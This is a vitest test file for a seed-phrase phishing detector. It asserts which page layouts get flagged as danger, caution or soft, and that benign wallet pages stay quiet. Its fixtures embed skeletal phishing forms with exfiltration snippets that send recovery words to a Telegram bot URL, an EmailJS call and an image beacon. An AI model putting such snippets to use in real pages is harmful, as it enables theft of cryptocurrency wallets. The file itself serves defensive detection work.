/** Seed-phrase phishing (detection.md §2.2, §6.2): entry surfaces, context, exfiltration, kit signals. */
import { english } from 'viem/accounts';
import { describe, expect, it } from 'vitest';

import { analyzeSeedPhrase } from '../../src/engine/page/analyzers/seed-phrase.js';
import {
  BIP39_ENGLISH,
  NUMBERED_WORD_FIELD,
  SEED_FIELD_ATTR,
  SEED_PHRASE_NAME,
} from '../../src/engine/page/analyzers/seed-phrase-patterns.js';
import type { PageFinding } from '../../src/engine/page/page-finding.js';
import {
  BENIGN_FIXTURES,
  fixtureHtml,
  MALICIOUS_FIXTURES,
  pageFixture,
} from '../helpers/page-fixtures.js';
import { fixtureInput, htmlView, urlContext } from '../helpers/page-view-context.js';

const UNKNOWN_SITE = 'https://meadowlark-labs.com/restore';

function seedFindings(html: string, url = UNKNOWN_SITE): PageFinding[] {
  return analyzeSeedPhrase(htmlView(html), urlContext(url));
}

function levels(findings: readonly PageFinding[]): string[] {
  return findings.map((f) => `${f.level}:${f.id}`);
}

/** Twelve inputs named `prefix1…prefix12`. */
function inputs(count: number, attributes: (i: number) => string): string {
  return Array.from({ length: count }, (_, i) => `<input ${attributes(i + 1)}>`).join('');
}

const RECOVERY_TEXT = '<h2>Enter your Secret Recovery Phrase</h2>';
const SEND = '<script>fetch("/api/restore", { method: "POST", body: words })</script>';

describe('seed-phrase fixtures', () => {
  const cases: Record<string, { evidence: string[]; brand: string | null }> = {
    'seed-phrase-metamask-restore': {
      evidence: ['word1', 'word12', 'api.telegram.org'],
      brand: 'MetaMask',
    },
    'seed-phrase-wallet-rectify-es': {
      evidence: ['frase de recuperación', 'ondigitalocean.app'],
      brand: null,
    },
    'seed-phrase-ledger-fr': { evidence: ['mot_1', 'mot_24', '/api/form/submit'], brand: 'Ledger' },
    'seed-phrase-trust-pt-js-grid': {
      evidence: ['palavra', 'api.telegram.org/bot'],
      brand: 'Trust Wallet',
    },
  };

  it('covers every seed-phrase fixture of the corpus', () => {
    const ids = MALICIOUS_FIXTURES.filter((f) => f.category === 'seed_phrase_phishing').map(
      (f) => f.id,
    );
    expect(ids.sort()).toEqual(Object.keys(cases).sort());
  });

  for (const [id, expected] of Object.entries(cases)) {
    it(`${id}: danger with page-derived evidence and the expected types`, () => {
      const fixture = pageFixture(id);
      const { view, context } = fixtureInput(fixture);
      const findings = analyzeSeedPhrase(view, context);
      const form = findings.find((f) => f.id === 'seed_phrase_form');
      expect(form?.level).toBe('danger');
      expect(form?.confidence).toBeGreaterThanOrEqual(0.85);
      for (const part of expected.evidence) expect(form?.evidence).toContain(part);
      expect(form?.evidence.length).toBeLessThanOrEqual(120);
      expect(form?.brand?.name ?? null).toBe(expected.brand);

      const types = new Set(findings.flatMap((f) => f.threatTypes));
      const signals = new Set(findings.flatMap((f) => f.signals));
      for (const type of ['seed_phrase_phishing', 'crypto_scam', 'brand_impersonation'] as const) {
        expect(types.has(type)).toBe(fixture.expect.threat_types.includes(type));
      }
      for (const signal of ['seed_phrase_phishing', 'crypto_scam'] as const) {
        expect(fixture.expect.signals).toContain(signal);
        expect(signals.has(signal)).toBe(true);
      }
    });
  }

  it('reports the Ledger kit: external bip39.min.js, validateBIP39, the word list, cloaking', () => {
    const { view, context } = fixtureInput(pageFixture('seed-phrase-ledger-fr'));
    const kit = analyzeSeedPhrase(view, context).find((f) => f.id === 'seed_phrase_kit');
    expect(kit?.level).toBe('soft');
    expect(kit?.evidence).toContain('bip39.min.js');
    expect(kit?.evidence).toContain('validateBIP39()');
    expect(kit?.evidence).toContain('2048 BIP39 words');
    expect(kit?.evidence).toContain('is_datacenter');
  });

  it('finds the JS-built grid although the static HTML has no input', () => {
    const fixture = pageFixture('seed-phrase-trust-pt-js-grid');
    expect(fixtureHtml(fixture)).not.toContain('<input');
    const { view, context } = fixtureInput(fixture);
    const form = analyzeSeedPhrase(view, context).find((f) => f.id === 'seed_phrase_form');
    expect(form?.evidence).toMatch(/^inputs built in a loop, named "palavra"/);
    // The Telegram endpoint is only in base64: it comes from the decoded strings.
    expect(form?.evidence).toContain('api.telegram.org/bot7201134855');
  });
});

describe('seed-phrase benign pages', () => {
  for (const fixture of BENIGN_FIXTURES) {
    it(`${fixture.id}: no danger or caution`, () => {
      const { view, context } = fixtureInput(fixture);
      const loud = analyzeSeedPhrase(view, context).filter((f) => f.level !== 'soft');
      expect(levels(loud)).toEqual([]);
    });
  }

  it('wallet docs that explain the phrase produce nothing at all', () => {
    for (const id of [
      'benign-metamask-download',
      'benign-ledger-support-fr',
      'benign-trezor-backup',
      'benign-trustwallet-blog-de',
    ]) {
      const { view, context } = fixtureInput(pageFixture(id));
      expect(analyzeSeedPhrase(view, context), id).toEqual([]);
    }
  });
});

describe('seed-phrase input grids', () => {
  it('12 word inputs, the phrase named and a network call: danger', () => {
    const html = `${RECOVERY_TEXT}<form>${inputs(12, (i) => `type="password" name="word${i}"`)}</form>${SEND}`;
    const findings = seedFindings(html);
    expect(levels(findings)).toEqual(['danger:seed_phrase_form']);
    expect(findings[0]?.evidence).toBe(
      '12 inputs named word1…word12 → fetch("/api/restore", { method: "POST", body: words })',
    );
    expect(findings[0]?.threatTypes).toEqual(['seed_phrase_phishing', 'crypto_scam']);
    expect(findings[0]?.brand).toBeUndefined();
  });

  it('the same grid with nowhere to send it: caution', () => {
    const html = `${RECOVERY_TEXT}<form>${inputs(12, (i) => `name="word${i}"`)}</form>`;
    expect(levels(seedFindings(html))).toEqual(['caution:seed_phrase_entry']);
  });

  it('a grid of word fields on a page that never names the phrase: caution, not danger', () => {
    const html = `<h1>Spelling test</h1><form action="/grade">${inputs(12, (i) => `name="word${i}"`)}</form>`;
    expect(levels(seedFindings(html, 'https://quizmaster-words.com/test'))).toEqual([
      'caution:seed_phrase_entry',
    ]);
  });

  it('24 anonymous inputs count with the phrase named; a 12-field registration form does not', () => {
    const grid = `${RECOVERY_TEXT}<form action="/verify">${inputs(24, (i) => `class="c${i}"`)}</form>`;
    expect(levels(seedFindings(grid))).toEqual(['danger:seed_phrase_form']);
    expect(seedFindings(grid)[0]?.evidence).toMatch(
      /^24 inputs of type text → form posts to meadowlark-labs\.com\/verify$/,
    );

    const names = ['first_name', 'last_name', 'email', 'phone', 'street', 'city', 'zip', 'country'];
    const registration = `<p>We will never ask for your recovery phrase.</p><form action="/signup">${inputs(
      12,
      (i) => `name="${names[i - 1] ?? `extra${i}`}"`,
    )}</form>`;
    expect(seedFindings(registration)).toEqual([]);
  });

  it('11 anonymous inputs are not a grid; 10 with 3 seed-like are', () => {
    const eleven = `${RECOVERY_TEXT}<form action="/x">${inputs(11, (i) => `name="f${i}"`)}</form>`;
    expect(seedFindings(eleven)).toEqual([]);
    const ten = `${RECOVERY_TEXT}<form action="/x">${inputs(10, (i) =>
      i <= 3 ? `placeholder="Seed word ${i}"` : `name="f${i}"`,
    )}</form>`;
    expect(levels(seedFindings(ten))).toEqual(['danger:seed_phrase_form']);
  });

  it('hidden inputs are not counted; inputs hidden by style are (kits reveal steps)', () => {
    const hiddenType = `${RECOVERY_TEXT}<form action="/x">${inputs(12, (i) => `type="hidden" name="word${i}"`)}</form>`;
    expect(seedFindings(hiddenType)).toEqual([]);
    const hiddenStep = `${RECOVERY_TEXT}<form action="/x"><div style="display:none">${inputs(12, (i) => `name="word${i}"`)}</div></form>`;
    expect(levels(seedFindings(hiddenStep))).toEqual(['danger:seed_phrase_form']);
  });

  it('on a wallet brand’s own domain a grid is soft only (web wallets restore in the page)', () => {
    const html = `${RECOVERY_TEXT}<form>${inputs(12, (i) => `name="word${i}"`)}</form>${SEND}`;
    const findings = seedFindings(html, 'https://myetherwallet.com/wallet/access');
    expect(levels(findings)).toEqual(['soft:seed_phrase_entry']);
  });
});

describe('seed-phrase fields and script grids', () => {
  it('a textarea named for the phrase plus a Telegram drop: danger, Telegram as evidence', () => {
    const html = `<h1>Validate your wallet</h1><p>Enter your 12 word recovery phrase.</p>
      <textarea name="phrase"></textarea>
      <script>fetch("https://api.telegram.org/bot123456789:AAAbbbCCCdddEEEfffGGGhhhIIIjjjKKKlll/sendMessage")</script>`;
    const findings = seedFindings(html);
    expect(levels(findings)).toEqual(['danger:seed_phrase_form']);
    expect(findings[0]?.evidence).toContain('→ api.telegram.org/bot123456789');
    expect(findings[0]?.confidence).toBe(0.97);
  });

  it('a comment box on a page about recovery phrases is not a phrase field', () => {
    const html = `<h1>What is a recovery phrase?</h1><form action="/comments"><textarea name="comment"></textarea></form>`;
    expect(seedFindings(html)).toEqual([]);
  });

  it('a private-key field in the rectification template (Spanish) with EmailJS: danger', () => {
    const html = `<h1>Sincronizar billetera</h1><p>Frase semilla, Keystore JSON o clave privada.</p>
      <input name="private_key" placeholder="Introduzca su clave privada">
      <script>emailjs.send("service_x", "template_y", data)</script>`;
    const findings = seedFindings(html);
    expect(levels(findings)).toEqual(['danger:seed_phrase_form']);
    expect(findings[0]?.evidence).toMatch(/^input Introduzca su clave privada → emailjs\.send/);
  });

  it('a 2FA recovery-code field is not a seed field', () => {
    const html = `<h1>Two-factor recovery</h1><p>Enter one of your recovery codes.</p>
      <form action="/sessions/two-factor/recovery"><input name="recovery_code"></form>`;
    expect(seedFindings(html)).toEqual([]);
  });

  it('fields built in a loop and named after a word, with a 12/24 count: danger', () => {
    const html = `<h1>Recupere sua carteira</h1><p>Confirme sua frase de recuperação.</p><div id="g"></div>
      <script>function build(n) { for (var i = 1; i <= n; i++) { var x = document.createElement("input");
        x.name = "word" + i; g.appendChild(x); } } build(24);
        document.forms[0].onsubmit = function () { new Image().src = "/c?d=" + words; };</script>`;
    const findings = seedFindings(html);
    expect(levels(findings)).toEqual(['danger:seed_phrase_form']);
    expect(findings[0]?.evidence).toContain('inputs built in a loop, named "word" +');
  });

  it('fields built in a loop but named otherwise, or built once, are not a grid', () => {
    const other = `${RECOVERY_TEXT}<script>for (var i = 0; i < 12; i++) { var x = document.createElement("input");
      x.name = "item" + i; } fetch("/x")</script>`;
    expect(seedFindings(other)).toEqual([]);
    const once = `${RECOVERY_TEXT}<script>var x = document.createElement("input"); x.name = "word" + 1; fetch("/x")</script>`;
    expect(seedFindings(once)).toEqual([]);
  });
});

describe('seed-phrase kit signals and patterns', () => {
  it('ships the BIP39 English list exactly (2048 words, as in viem)', () => {
    expect([...BIP39_ENGLISH]).toEqual(english);
  });

  it('an embedded word list counts only in list order', () => {
    const words = english.slice(0, 250);
    const ordered = `<script>var w = [${words.map((w) => `"${w}"`).join(',')}];</script>`;
    const kit = seedFindings(ordered).find((f) => f.id === 'seed_phrase_kit');
    expect(kit?.evidence).toBe('250 BIP39 words in one script');
    // Starts at `abandon` like a list, but the words that follow are out of order.
    const shuffled = [english[0], ...words.slice(1).reverse()];
    const prose = `<script>var w = [${shuffled.map((w) => `"${w}"`).join(',')}];</script>`;
    expect(seedFindings(prose)).toEqual([]);
    expect(
      seedFindings(`<script>var w = ${JSON.stringify(english.slice(0, 150))}</script>`),
    ).toEqual([]);
  });

  it('names the phrase in the kit languages', () => {
    for (const text of [
      'secret recovery phrase',
      'frase de recuperação secreta',
      'phrase de récupération',
      'wiederherstellungsphrase',
      'frase semilla',
      'frase di recupero',
      'herstelzin',
      'seed-фразу',
      'シードフレーズ',
      '助记词',
    ]) {
      expect(SEED_PHRASE_NAME.test(text), text).toBe(true);
    }
    for (const text of ['recovery code', 'password reset', 'key phrase extraction']) {
      expect(SEED_PHRASE_NAME.test(text), text).toBe(false);
    }
  });

  it('tells word fields from password and recovery-e-mail fields', () => {
    for (const attributes of [
      'word1',
      'import-srp__srp-word-0',
      'mot_1',
      'mot n°12',
      'palavra7',
      'w3',
    ]) {
      expect(NUMBERED_WORD_FIELD.test(attributes), attributes).toBe(true);
    }
    for (const attributes of ['password1', 'new-password-2', 'row-12', 'keyword10']) {
      expect(NUMBERED_WORD_FIELD.test(attributes), attributes).toBe(false);
    }
    expect(SEED_FIELD_ATTR.test('recovery_phrase')).toBe(true);
    expect(SEED_FIELD_ATTR.test('recovery_email')).toBe(false);
    expect(SEED_FIELD_ATTR.test('passphrase')).toBe(false);
  });
});
